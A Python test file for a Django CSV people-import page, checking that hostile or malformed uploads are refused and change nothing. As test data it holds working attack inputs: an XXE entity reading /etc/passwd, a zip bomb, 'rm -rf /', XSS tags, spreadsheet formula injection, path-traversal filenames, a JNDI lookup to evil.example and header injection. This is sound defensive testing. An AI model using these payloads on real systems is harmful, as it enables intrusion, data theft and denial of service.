"""Files sent to the page that imports people from a CSV file: each is refused with a sentence, and changes nothing."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from partnership.history import Change
from partnership.models import SecurityEvent
from subgroups.models import Invitation
from subgroups.people_csv import write_people
from tests.helpers.builders import TODAY

pytestmark = pytest.mark.engine_free

PAGE = "/ashshire/people/file/"
HEADINGS = "Name,E-mail,Role,Agency,Seats\n"
GOOD = f"{HEADINGS}Jo Bloom,jo@charity.example,member,,\n"
SENTENCES = (
    "The file must be a CSV file with a name ending in .csv",
    "The file must be smaller than 200 kB",
    "The file must be a CSV file in UTF-8. In Excel, save it as “CSV UTF-8”",
    "The file must be a CSV file, not a renamed file of another kind",
    "We could not read the file as CSV from line",
    "The file has more than 300 rows. Split it into smaller files.",
    "The first row must contain the column names",
    "The file is empty",
)


@pytest.fixture
def client(people, client_as):
    return client_as(people.business_manager)


@pytest.fixture(autouse=True)
def nothing_changes(people, mailoutbox):
    before = Change.objects.count()
    yield
    assert (Invitation.objects.count(), Change.objects.count(), mailoutbox) == (0, before, [])
    assert SecurityEvent.objects.count() == 0


def send(client, data, name="people.csv", kind="text/csv"):
    data = data if isinstance(data, bytes) else data.encode()
    return client.post(PAGE, {"file": SimpleUploadedFile(name, data, kind)})


def refusal(answer):
    """Which of our sentences the page shows beside the file."""
    page = answer.content.decode()
    assert answer.status_code == 200
    assert "There is a problem" in page
    assert 'name="text"' not in page  # nothing to confirm
    told = [sentence for sentence in SENTENCES if sentence in page]
    assert len(told) == 1
    return told[0]


def archive(*names, text="<x/>"):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name in names:
            file.writestr(name, text)
    return made.getvalue()


WORKBOOK = archive("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml")
ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;&b;">]>
<x>&a;,&c;,member</x>
"""


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (archive("people.csv", text=GOOD), SENTENCES[2]),
        (archive("a", text="0" * 150_000_000), SENTENCES[2]),  # 150 MB in 146 kB
        (WORKBOOK, SENTENCES[2]),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, SENTENCES[2]),  # an old Excel file
        (b"%PDF-1.7\n1 0 obj\n", SENTENCES[6]),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", SENTENCES[2]),
        (ENTITIES, SENTENCES[6]),
        ("<html><script>alert(1)</script></html>", SENTENCES[6]),
        ("#!/bin/sh\nrm -rf /\n", SENTENCES[6]),
    ],
    ids=["zip", "bomb", "xlsx", "xls", "pdf", "png", "xml", "html", "sh"],
)
@pytest.mark.parametrize("kind", ["text/csv", "application/zip", "text/csv; charset=utf-7"])
def test_another_kind_of_file_renamed(client, data, sentence, kind):
    answer = send(client, data, kind=kind)
    if len(data) > 200 * 1024:
        sentence = SENTENCES[1]
    if sentence == SENTENCES[2] and SENTENCES[3] in answer.content.decode():
        sentence = SENTENCES[3]  # its bytes happen to be letters and null characters
    assert refusal(answer) == sentence
    assert "root:" not in answer.content.decode()


@pytest.mark.parametrize(
    "name",
    [
        "people.xlsx",
        "people.csv.exe",
        "people.csv.html",
        "people",
        ".csv.",
        "people.csv\u202excel.exe",
        "../../manage.py",
        "..\\..\\settings.py",
        "people.csv%00.py",
        "people.csv;.php",
    ],
)
def test_a_file_under_the_name_of_another_kind_is_refused(client, name):
    assert refusal(send(client, GOOD, name)) == SENTENCES[0]


@pytest.mark.parametrize(
    "name",
    [
        "../../../tmp/people.csv",
        "..\\..\\people.csv",
        "/etc/cron.d/people.csv",
        "people.html.csv",
        '"><script>alert(1)</script>.csv',
        "x" * 5_000 + ".csv",
        "＝cmd.csv",
    ],
)
def test_a_name_is_never_used(client, name, tmp_path, monkeypatch, settings):
    """Whatever path precedes it: the rows are read, no file is written, and the name is not returned."""
    monkeypatch.chdir(tmp_path)
    settings.MEDIA_ROOT = tmp_path
    answer = send(client, GOOD, name)
    assert answer.status_code == 200
    assert "jo@charity.example" in answer.content.decode()
    assert "<script>alert" not in answer.content.decode()
    assert list(tmp_path.rglob("*")) == []


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (GOOD.encode() + b"\0" * 10, SENTENCES[3]),
        (GOOD.replace("Jo", "J\0o").encode(), SENTENCES[3]),
        (GOOD.encode("utf-16"), SENTENCES[2]),
        (GOOD.encode("utf-16-le"), SENTENCES[3]),
        (GOOD.encode("utf-32"), SENTENCES[2]),
        (GOOD.replace("Jo", "Zoë").encode("latin-1"), SENTENCES[2]),
        (b"\xef\xbb\xbf\xff\xfe" + GOOD.encode(), SENTENCES[2]),
        (b"\xed\xa0\x80" + GOOD.encode(), SENTENCES[2]),  # half of a character
        (b"\xc0\xaf" + GOOD.encode(), SENTENCES[2]),  # an overlong encoding of a slash
        (f'{HEADINGS}"{"x" * 1_000_000}",jo@charity.example,member,,\n', SENTENCES[1]),
        (HEADINGS + "," * 250_000, SENTENCES[1]),
        ("x" * (200 * 1024 + 1), SENTENCES[1]),
        (f'{HEADINGS}"{"x" * 140_000}",jo@charity.example,member,,\n', SENTENCES[4]),
        (HEADINGS + '"' * 100_001, SENTENCES[4]),
        (HEADINGS + 'Jo,"jo@charity.example,member\n', SENTENCES[4]),
        (HEADINGS + "Jo,jo@charity.example,member,,\n" * 301, SENTENCES[5]),
        (HEADINGS + "x\n" * 50_000, SENTENCES[5]),
        ("," * 100_000, SENTENCES[7]),
        ("\n" * 100_000, SENTENCES[7]),
        (b"", SENTENCES[7]),
        ("Name,Role\nJo,member\n", SENTENCES[6]),
        ("=cmd|' /C calc'!A0,b,c\n1,2,3\n", SENTENCES[6]),
        ("\r\rName", SENTENCES[6]),
    ],
)
def test_a_text_that_is_none_of_ours(client, data, sentence):
    assert refusal(send(client, data)) == sentence


@pytest.mark.parametrize(
    "cells",
    [
        "=1+1,jo@charity.example,king,,",
        "x" * 90_000 + ",jo@charity.example,member,,",
        f"Jo,{'x' * 90_000}@charity.example,member,,",
        f"Jo,jo@charity.example,member,{'A' * 90_000},",
        "Jo,jo@charity.example,member,," + "Audit Group;" * 5_000,
        "Jo,jo@charity.example,member,," + ":" * 50_000,
        "Jo,__proto__,{{7*7}},${jndi:ldap://evil.example},%s%n",
        "<script>alert(1)</script>,jo@charity.example,<img src=x>,,",
    ],
)
def test_cells_that_mean_nothing_are_told_by_line(client, cells):
    """Nothing is offered for confirmation, and a hand-made confirmation is refused."""
    text = f"{HEADINGS}{cells}\n"
    page = send(client, text).content.decode()
    assert "There is a problem with the file" in page
    assert "Line 2:" in page
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    answer = client.post(PAGE, {"text": text})
    assert answer.status_code == 200
    assert "Line 2:" in answer.content.decode()


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "＝", " ="])
def test_a_formula_that_came_in_goes_out_as_words(people, client, beginning):
    """Stored as a person's name; a spreadsheet that opens our file computes nothing."""
    user = people.member
    type(user).objects.filter(pk=user.pk).update(name=f"{beginning}cmd|' /C calc'!A0")
    rows = csv.DictReader(io.StringIO(write_people(people.partnership, on=TODAY)))
    names = {row["Email"]: row["Name"] for row in rows}
    assert names[user.email] == f"'{beginning}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("headers", "statuses"),
    [
        ({"CONTENT_TYPE": "multipart/form-data"}, {400}),
        ({"CONTENT_TYPE": "multipart/form-data; boundary="}, {400}),
        ({"CONTENT_TYPE": "multipart/form-data; boundary=" + "x" * 5_000}, {400}),
        ({"CONTENT_TYPE": "multipart/form-data; boundary=x\r\ny"}, {400}),
        ({"CONTENT_TYPE": "multipart/form-data; boundary=y"}, {200, 400}),
        ({"CONTENT_TYPE": "text/csv"}, {200}),
        ({"CONTENT_TYPE": "application/json"}, {200}),
        ({"CONTENT_LENGTH": "-1"}, {400}),
        ({"CONTENT_LENGTH": "x"}, {200, 400}),
        ({"CONTENT_LENGTH": "5"}, {200, 400}),
    ],
)
def test_headers_that_no_browser_sends(client, headers, statuses):
    body = (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="people.csv"\r\n'
        b"Content-Type: text/csv\r\n\r\n" + GOOD.encode() + b"\r\n--x--\r\n"
    )
    kind = {"CONTENT_TYPE": "multipart/form-data; boundary=x"} | headers
    answer = client.generic("POST", PAGE, body, kind.pop("CONTENT_TYPE"), **kind)
    assert answer.status_code in statuses
    assert "<h1" in answer.content.decode()


@pytest.mark.parametrize(
    "part",
    [
        b'name="file"; filename="people.csv"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!',
        b'name="file"; filename="\xff\xfe.csv"\r\n\r\n\xff',
        b"name=\"file\"; filename*=utf-8''..%2f..%2fpeople.csv\r\n\r\n\xff",
        b'name="file"; filename="people\r\nSet-Cookie: a=b.csv"\r\n\r\n' + GOOD.encode(),
        b'name="file"; filename=""\r\n\r\n' + GOOD.encode(),
        b'name="file"\r\n\r\n' + GOOD.encode(),
        b'filename="people.csv"\r\n\r\n' + GOOD.encode(),
        b'name="file"; filename="people.csv"\r\nX: ' + b"x" * 70_000 + b"\r\n\r\nx",
    ],
)
def test_parts_that_no_browser_sends(client, part):
    body = b"--x\r\nContent-Disposition: form-data; " + part + b"\r\n--x--\r\n"
    answer = client.generic("POST", PAGE, body, "multipart/form-data; boundary=x")
    assert answer.status_code in (200, 400)
    page = answer.content.decode()
    assert "There is a problem" in page or answer.status_code == 400
    assert "Set-Cookie" not in f"{answer.headers}{page}"


def test_a_good_one_would_be_taken(client):
    """Otherwise the tests above could pass for another reason."""
    page = send(client, GOOD).content.decode()
    assert "1 person will get an email when you confirm" in page
    assert 'name="text"' in page
